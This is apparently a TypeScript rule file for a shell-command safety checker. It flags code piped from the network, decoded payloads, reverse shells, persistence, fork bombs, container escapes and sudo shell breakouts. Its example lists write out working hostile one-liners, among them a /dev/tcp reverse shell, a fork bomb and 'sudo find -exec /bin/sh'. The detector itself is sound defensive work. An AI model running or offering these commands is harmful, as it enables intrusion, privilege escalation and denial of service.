import type { CodeRule, CommandRule, StructureRule } from '../rule.ts';
import { traits } from '../shell/marks.ts';

const cameFrom = (own: number, trait: number): boolean => (own & trait) !== 0;

export const codeRules: readonly (CodeRule | StructureRule | CommandRule)[] = [
  {
    id: 'remote-code',
    on: 'code',
    domain: 'network',
    risk: 'critical',
    title: 'Code from the network is run',
    message: 'Executes untrusted remote code: what an address serves is run without being read.',
    stakes: [
      'The code may do anything you may do',
      'What is served may change, or differ for you',
      'A broken download runs by halves',
    ],
    alternative: 'curl -fsSLo install.sh https://example.com/install.sh',
    matches: [
      'curl https://example.com/i.sh | bash',
      'wget -qO- https://example.com/i | sudo sh',
      'bash <(curl -s https://example.com/i)',
      'sh -c "$(curl -fsSL https://example.com/i)"',
      '. <(curl https://example.com/i)',
      'curl -o i.sh https://example.com/i.sh && bash i.sh',
      'eval "$(wget -qO- example.com)"',
    ],
    spares: [
      'curl https://example.com/i.sh',
      'curl https://example.com/x.json | jq .',
      'curl -o i.sh https://example.com/i.sh',
      'bash install.sh',
      'curl https://example.com | python3 -m json.tool',
    ],
    when: ({ source }) => cameFrom(source.traits, traits.network),
  },
  {
    id: 'hidden-code',
    on: 'code',
    domain: 'code',
    risk: 'critical',
    title: 'Hidden code is run',
    message: 'This decodes text and runs it, so that nobody can read what will run.',
    stakes: [
      'The code may do anything you may do',
      'Who hides code has a reason',
      'Nothing shows afterwards what ran',
    ],
    alternative: 'base64 -d payload.txt',
    matches: [
      'base64 -d payload.txt | sh',
      'echo "$X" | base64 -d | bash',
      'xxd -r -p x | sh',
      'eval "$(base64 -d <<< "$X")"',
      'python3 -c "exec(__import__(\'base64\').b64decode(p))"',
    ],
    spares: ['base64 -d payload.txt', 'echo aGk= | base64 -d', 'xxd x | head'],
    when: ({ source, read, harmless }) =>
      cameFrom(source.traits, traits.decoded) &&
      !cameFrom(source.traits, traits.network) &&
      (!read || !harmless),
  },
  {
    id: 'decoded-code',
    on: 'code',
    domain: 'code',
    risk: 'moderate',
    title: 'Decoded text is run',
    message:
      'This decodes text and runs it. What it holds was read and looks harmless, but why it is hidden is not known.',
    stakes: [
      'The code may do anything you may do',
      'Who hides code has a reason',
      'A reader of the command cannot see what it does',
    ],
    alternative: 'echo aGVsbG8= | base64 -d',
    matches: ['echo ZWNobyBoZWxsbw== | base64 -d | sh', 'echo ih ohce | rev | sh'],
    spares: ['echo ZWNobyBoZWxsbw== | base64 -d', 'echo hello | sh -c cat', 'echo x | base64'],
    when: ({ source, read, harmless }) =>
      cameFrom(source.traits, traits.decoded) && !cameFrom(source.traits, traits.network) && read && harmless,
  },
  {
    id: 'unseen-code',
    on: 'code',
    domain: 'code',
    risk: 'moderate',
    title: 'Code that is not known is run',
    message: 'This runs text that only exists when the command runs: confirm what it holds.',
    stakes: [
      'The code may do anything you may do',
      'It depends on a variable or on another program',
      'Nothing shows beforehand what will run',
    ],
    alternative: 'printf "%s\\\\n" "$CMD"',
    matches: ['eval "$CMD"', 'make-script | sh', 'sh -c "$X"'],
    spares: ['echo "$CMD"', 'sh script.sh', 'eval "echo hi"'],
    when: ({ source, read }) => !read && !cameFrom(source.traits, traits.network | traits.decoded),
  },
  {
    id: 'reverse-shell',
    on: 'structure',
    shape: 'reverse-shell',
    domain: 'network',
    risk: 'critical',
    title: 'A shell handed to another machine',
    message: 'This connects to another machine and lets it run commands here.',
    stakes: [
      'Whoever is at the other end runs commands as you',
      'Firewalls rarely stop it',
      'It is how attackers work on a machine',
    ],
    alternative: 'ssh host',
    matches: [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
      'sh -i > /dev/tcp/10.0.0.1/99 0<&1 2>&1',
    ],
    spares: [
      'echo > /dev/tcp/10.0.0.1/22',
      "python3 -c 'import socket; print(socket.gethostname())'",
      'ssh host',
      'bash -i',
    ],
  },
  {
    id: 'hidden-startup',
    on: 'structure',
    shape: 'hidden-startup',
    domain: 'code',
    risk: 'critical',
    title: 'A file from a temporary place that stays',
    message: 'This has a program from a place where anybody may write started, or loaded, again and again.',
    stakes: [
      'Whoever can write there runs code as you',
      'It stays after this session',
      'It is how attackers keep their way in',
    ],
    alternative: 'crontab -l',
    matches: [
      "echo '* * * * * root /tmp/.x' > /etc/cron.d/x",
      "printf '[Service]\\nExecStart=/dev/shm/x\\n' > /etc/systemd/system/x.service",
      'LD_PRELOAD=/tmp/x.so ssh host',
    ],
    spares: [
      "echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup",
      '/tmp/build/run-tests',
      'LD_PRELOAD=/usr/lib/libjemalloc.so ./server',
    ],
  },
  {
    id: 'fork-bomb',
    on: 'structure',
    shape: 'fork-bomb',
    domain: 'processes',
    risk: 'critical',
    title: 'Fork bomb',
    message: 'This starts processes that start processes, without end.',
    stakes: ['The machine stops answering', 'Unsaved work in every program', 'Only a restart helps'],
    alternative: 'ulimit -u',
    matches: [
      ':(){ :|:& };:',
      'bomb() { bomb | bomb & }; bomb',
      'f(){ f & f & }; f',
      "perl -e 'fork while 1'",
      'while true; do bash & done',
    ],
    spares: [
      'f() { echo hi; }; f',
      "echo ':(){ :|:& };:'",
      'while true; do sleep 1; done',
      'f() { g | g & }',
    ],
  },
  {
    id: 'unreadable-command',
    on: 'structure',
    shape: 'unreadable',
    domain: 'code',
    risk: 'high',
    title: 'A command that cannot be read to its end',
    message:
      'This text is too long, too deeply nested, or makes too much of itself to be checked: confirm what it does.',
    stakes: [
      'Whatever stands in the part that was not read',
      'Nobody writes such a command by hand',
      'It may be meant to hide something',
    ],
    alternative: 'less script.sh',
    matches: [`eval ${'eval '.repeat(20)}x`],
    spares: ['eval "eval ls"', 'sh -c "sh -c ls"'],
  },
  {
    id: 'root-shell',
    on: 'command',
    domain: 'code',
    risk: 'high',
    programs: ['sudo', 'su', 'doas'],
    title: 'A root shell',
    message: 'This opens a shell in which every command runs as root.',
    stakes: [
      'Every mistake concerns the whole machine',
      'Nothing asks again',
      'Single commands are no longer recorded',
    ],
    alternative: 'sudo ls /root',
    matches: ['sudo su', 'sudo su -', 'sudo bash -c "sudo su"'],
    spares: ['sudo ls /root', 'su anna', 'sudo -l'],
    when: (command) =>
      command.program === 'sudo' &&
      command.is('su') &&
      command.operands.slice(1).every(({ text }) => text === '-' || text === 'root'),
  },
  {
    id: 'enter-machine',
    on: 'command',
    domain: 'containers',
    risk: 'high',
    programs: ['nsenter'],
    title: 'A way out of a container into its machine',
    message: 'This enters the namespaces of the first process: all of the machine, as root.',
    stakes: [
      'Every file and process of the machine',
      'The other containers',
      'It is how attackers leave a container',
    ],
    alternative: 'docker exec -it web sh',
    matches: ['nsenter -t 1 -a', 'nsenter --target 1 --mount --pid -- bash'],
    spares: ['docker exec -it web sh', 'nsenter -t 4242 -n ip addr'],
    when: (command) =>
      /(?:^|\s)(?:-t ?|--target[ =])1(?:\s|$)/.test(command.text) &&
      command.has('-a', '-m', '--all', '--mount'),
  },
  {
    id: 'shell-through-program',
    on: 'command',
    domain: 'code',
    risk: 'high',
    programs: ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish'],
    title: 'A root shell that another program opens',
    message:
      'This has a program that runs as root open a shell: the way around what `sudo` allows and records.',
    stakes: [
      'Whatever is typed from then on runs as root',
      'What may be run with sudo was limited for a reason',
      'It is how attackers become root',
    ],
    alternative: 'sudo -l',
    matches: [
      "sudo vim -c ':!/bin/sh'",
      'sudo find . -exec /bin/sh \\; -quit',
      'sudo awk \'BEGIN {system("/bin/sh")}\'',
      './bash -p',
    ],
    spares: [
      'sudo -l',
      'sudo docker exec -it web sh',
      "sudo sh -c 'ls /root'",
      'docker run -it alpine sh',
      'sudo chroot /mnt bash',
    ],
    when: (command) =>
      command.stdin.text === '' &&
      command.stdin.traits === 0 &&
      command.args.every(({ text }) => /^(?:-[ilp]{1,3}|--login|--norc|--noprofile)$/.test(text)) &&
      // `sudo` itself is one level.
      ((command.privileged && command.run.depth >= 2) || command.mentions('-p')),
  },
];
